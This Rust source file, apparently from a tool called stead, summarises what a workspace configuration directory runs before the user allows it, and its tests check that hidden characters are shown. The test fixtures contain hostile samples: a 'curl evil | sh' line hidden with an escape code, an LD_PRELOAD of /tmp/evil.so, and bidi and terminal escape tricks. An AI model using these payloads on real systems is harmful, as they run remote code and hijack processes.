//! What a workspace's `.stead` directory does once it is allowed, in lines for whoever has to decide (SPEC CF-4).

use std::io;

use stead_config::{ConfigFile, ConfigKey, ConfigTable, ConfigValue, LANGUAGES, Sourced};
use stead_screen::visible;

use super::{CONFIG_FILE, ProjectDir};
use crate::show::shown::counted;

/// Most characters of init code that a short line shows.
const SHORT_CODE: usize = 60;
/// Most names of files that a short line lists.
const SHORT_NAMES: usize = 10;

/// What the directory does: a line for each session, toolchain and library, which says how much it leaves out.
pub fn effects(project: &ProjectDir, file: Option<&ConfigFile>) -> Vec<String> {
    let mut lines = Vec::new();
    if let Some(file) = file {
        let top = short(&file.top);
        if !top.is_empty() {
            lines.push(format!("all sessions: {}", top.join(", ")));
        }
        let (mut sessions, mut toolchains) = (0, 0);
        for (kind, name, table) in tables(file) {
            let does = short(table);
            match (does.is_empty(), kind) {
                (false, _) => lines.push(format!("{kind} `{name}`: {}", does.join(", "))),
                (true, SESSION) => sessions += 1,
                (true, _) => toolchains += 1,
            }
        }
        // Tables without settings are only counted: many of them must not push the others out of sight.
        let counts = [(toolchains, TOOLCHAIN, "toolchains"), (sessions, SESSION, "sessions")];
        for (number, one, many) in counts.into_iter().filter(|(number, ..)| *number > 0) {
            lines.insert(0, format!("{} without settings", counted(number, one, many)));
        }
    }
    lines.extend(libraries(project).map(|library| library.title()));
    let others: Vec<_> = others(project, file.is_some()).map(|(name, _)| visible(name)).collect();
    if !others.is_empty() {
        let more = match others.len().saturating_sub(SHORT_NAMES) {
            0 => String::new(),
            more => format!(" and {more} more"),
        };
        let names: Vec<String> = others.iter().take(SHORT_NAMES).map(|it| it.to_string()).collect();
        lines.push(format!("files: {}{more}", names.join(", ")));
    }
    lines
}

/// All that the directory does: every value, all code and the text of every library. Files that stead does not
/// read itself are named.
pub fn whole_effects(project: &ProjectDir, file: Option<&ConfigFile>) -> Vec<String> {
    let mut lines = Vec::new();
    match file {
        Some(file) => {
            if !file.top.values.is_empty() {
                lines.push("all sessions:".to_owned());
                lines.extend(whole(&file.top));
            }
            for (kind, name, table) in tables(file) {
                let does = whole(table);
                let nothing = if does.is_empty() { "no settings" } else { "" };
                lines.push(format!("{kind} `{name}`: {nothing}").trim_end().to_owned());
                lines.extend(does);
            }
        }
        // Another version of stead may understand this file, so the user has to see it before allowing it.
        None => {
            if let Some(text) = project.config().transpose() {
                lines.push(format!("`{CONFIG_FILE}`, which cannot be understood:"));
                lines.extend(code_or_why(&text));
            }
        }
    }
    for library in libraries(project) {
        lines.push(library.title());
        lines.extend(code_or_why(&library.text));
    }
    for (name, bytes) in others(project, true) {
        let bytes = counted(bytes, "byte", "bytes");
        lines.push(format!("file `{}`, {bytes}: look at it yourself", visible(name)));
    }
    lines
}

const SESSION: &str = "session";
const TOOLCHAIN: &str = "toolchain";

/// The tables of a file that have a name, each with its kind.
fn tables(file: &ConfigFile) -> impl Iterator<Item = (&'static str, &str, &ConfigTable)> {
    let sessions = file.sessions.iter().map(|(name, it)| (SESSION, name.as_str(), &it.table));
    let own = file.toolchains.iter().map(|(name, it)| (TOOLCHAIN, name.as_str(), &it.table));
    sessions.chain(own)
}

/// A standard library of the project's, which new sessions of its language run.
struct ProjectLibrary {
    name: String,
    language: &'static str,
    text: io::Result<String>,
}

impl ProjectLibrary {
    fn title(&self) -> String {
        let ProjectLibrary { name, language, text } = self;
        match text {
            Ok(text) => {
                let lines = counted(text.lines().count() as u64, "line", "lines");
                format!("standard library `{name}`, {lines}: runs in every new {language} session")
            }
            Err(_) => format!("standard library `{name}`: cannot be read and does not run"),
        }
    }
}

fn libraries(project: &ProjectDir) -> impl Iterator<Item = ProjectLibrary> {
    LANGUAGES.iter().filter_map(|language| {
        let file = language.stdlib?;
        let text = project.stdlib(file).transpose()?;
        Some(ProjectLibrary { name: format!("stdlib/{file}"), language: language.title, text })
    })
}

/// Files that only the project itself knows the use of, with their sizes.
fn others(project: &ProjectDir, config_is_shown: bool) -> impl Iterator<Item = (&str, u64)> {
    let is_library = |name: &str| {
        let file = name.strip_prefix("stdlib/");
        file.is_some() && LANGUAGES.iter().any(|language| language.stdlib == file)
    };
    let files = project.files.iter().map(|(name, bytes)| (name.as_str(), *bytes));
    let is_shown = move |name: &str| is_library(name) || config_is_shown && name == CONFIG_FILE;
    files.filter(move |(name, _)| !is_shown(name))
}

/// What a table sets, each in a few words. Values of variables are not told.
fn short(table: &ConfigTable) -> Vec<String> {
    let said = |key: ConfigKey, value: &Sourced<ConfigValue>| match (key, &value.value) {
        (ConfigKey::Init, ConfigValue::Text(code)) => short_code(code),
        (ConfigKey::Env, value) => format!("sets {}", value.shown()),
        (key, value) => format!("{} = {}", key.name(), value.shown()),
    };
    table.values.iter().map(|(key, value)| said(*key, value)).collect()
}

/// The first line of code, and how much more there is: a user who is asked to allow it has to see that.
fn short_code(code: &str) -> String {
    let code = code.trim();
    let line = code.lines().next().unwrap_or_default();
    let first: String = line.chars().take(SHORT_CODE).collect();
    let characters = line.chars().count().saturating_sub(SHORT_CODE) as u64;
    let lines = code.lines().count().saturating_sub(1) as u64;
    let more: Vec<String> =
        [(characters, "more character", "more characters"), (lines, "more line", "more lines")]
            .into_iter()
            .filter(|(number, ..)| *number > 0)
            .map(|(number, one, many)| format!(" and {}", counted(number, one, many)))
            .collect();
    let cut = if characters > 0 { "…" } else { "" };
    format!("runs `{}`{cut}{}", visible(&first), more.concat())
}

/// What a table sets, whole.
fn whole(table: &ConfigTable) -> Vec<String> {
    let mut lines = Vec::new();
    for (key, value) in &table.values {
        match (key, &value.value) {
            (ConfigKey::Init, ConfigValue::Text(text)) => {
                lines.push("  runs:".to_owned());
                lines.extend(code(text).map(|line| format!("  {line}")));
            }
            (_, ConfigValue::Variables(all)) => {
                let set = |(name, value): (&String, &Sourced<String>)| {
                    let value = ConfigValue::Text(value.value.clone()).shown();
                    format!("  sets {} = {value}", visible(name))
                };
                lines.extend(all.iter().map(set));
            }
            (key, value) => lines.push(format!("  {} = {}", key.name(), value.shown())),
        }
    }
    lines
}

/// Code as lines that cannot be mistaken for what stead says.
fn code(text: &str) -> impl Iterator<Item = String> {
    text.lines().map(|line| {
        // Tabs become blanks: they hide nothing, and code that is full of `\t` is hard to read.
        let line = line.replace('\t', "    ");
        format!("  | {}", visible(&line)).trim_end().to_owned()
    })
}

fn code_or_why(text: &io::Result<String>) -> Vec<String> {
    match text {
        Ok(text) => code(text).collect(),
        Err(error) => vec![format!("  {error}")],
    }
}

#[cfg(test)]
mod tests {
    use std::fs;

    use stead_config::{FileOwner, read_config};

    use super::*;

    /// What both say of a directory with these files.
    fn said(files: &[(&str, &str)]) -> (String, String) {
        let temp = tempfile::tempdir().unwrap();
        for (name, text) in files {
            let path = temp.path().join(".stead").join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        let project = ProjectDir::read(temp.path()).unwrap().unwrap();
        let text = project.config().unwrap();
        let file = text.and_then(|text| {
            read_config(&text, &project.path.join(CONFIG_FILE), FileOwner::Workspace).ok()
        });
        let both = [effects, whole_effects].map(|of| of(&project, file.as_ref()).join("\n"));
        let [short, whole] = both;
        (short, whole)
    }

    #[test]
    fn cf4_all_that_is_allowed_is_shown() {
        let config = r#"
            quota = "2 MiB"
            [sessions.ml]
            init = """import sys
if sys:
	import os; os.system("curl evil | sh\u001b[2K")
"""
            env = { LD_PRELOAD = "/tmp/evil.so", "A\u202e" = "x\ny" }
            [sessions.plain]
            [toolchains.bash]
            [toolchains.own]
            engine = "python"
            cmd = ["sh", "-c", "touch x", "{bridge}"]
        "#;
        let (short, whole) = said(&[
            ("config.toml", config),
            ("stdlib/python.py", "def a():\r\n    '\u{1b}]0;x\u{7}'\n\nx\u{202e}\n"),
            ("stdlib/odd.py", "1"),
            ("bridge.pl", "22"),
        ]);
        assert_eq!(
            short,
            r#"1 session without settings
1 toolchain without settings
all sessions: quota = "2 MiB"
session `ml`: sets { A\u{202e}, LD_PRELOAD }, runs `import sys` and 2 more lines
toolchain `own`: engine = "python", cmd = ["sh", "-c", "touch x", "{bridge}"]
standard library `stdlib/python.py`, 4 lines: runs in every new Python session
files: bridge.pl, stdlib/odd.py"#
        );
        assert_eq!(
            whole,
            r#"all sessions:
  quota = "2 MiB"
session `ml`:
  sets A\u{202e} = "x\ny"
  sets LD_PRELOAD = "/tmp/evil.so"
  runs:
    | import sys
    | if sys:
    |     import os; os.system("curl evil | sh\u{1b}[2K")
session `plain`: no settings
toolchain `bash`: no settings
toolchain `own`:
  engine = "python"
  cmd = ["sh", "-c", "touch x", "{bridge}"]
standard library `stdlib/python.py`, 4 lines: runs in every new Python session
  | def a():
  |     '\u{1b}]0;x\u{7}'
  |
  | x\u{202e}
file `bridge.pl`, 2 bytes: look at it yourself
file `stdlib/odd.py`, 1 byte: look at it yourself"#
        );
    }

    #[test]
    fn cf4_what_cannot_be_understood_is_shown_as_it_is() {
        let (short, whole) =
            said(&[("config.toml", "[sessions.ml\n\u{1b}c"), ("stdlib/bash.sh", "")]);
        assert_eq!(
            short,
            "standard library `stdlib/bash.sh`, 0 lines: runs in every new Bash session\nfiles: config.toml"
        );
        assert_eq!(
            whole,
            r"`config.toml`, which cannot be understood:
  | [sessions.ml
  | \u{1b}c
standard library `stdlib/bash.sh`, 0 lines: runs in every new Bash session"
        );
    }

    #[test]
    fn cf4_a_short_line_counts_what_it_leaves_out() {
        let long = "x".repeat(61);
        assert_eq!(short_code("x = 1\n"), "runs `x = 1`");
        assert_eq!(short_code("\nx = 1\n\n# y"), "runs `x = 1` and 2 more lines");
        assert!(short_code(&long).ends_with("x`… and 1 more character"));
        assert!(
            short_code(&format!("{long}\ny")).ends_with("… and 1 more character and 1 more line")
        );
        let names: Vec<String> = (0..13).map(|number| format!("f{number:02}")).collect();
        let files: Vec<_> = names.iter().map(|name| (name.as_str(), "")).collect();
        let (short, whole) = said(&files);
        assert!(short.ends_with(", f09 and 3 more"), "{short}");
        assert_eq!(whole.lines().count(), 13, "{whole}");
    }
}
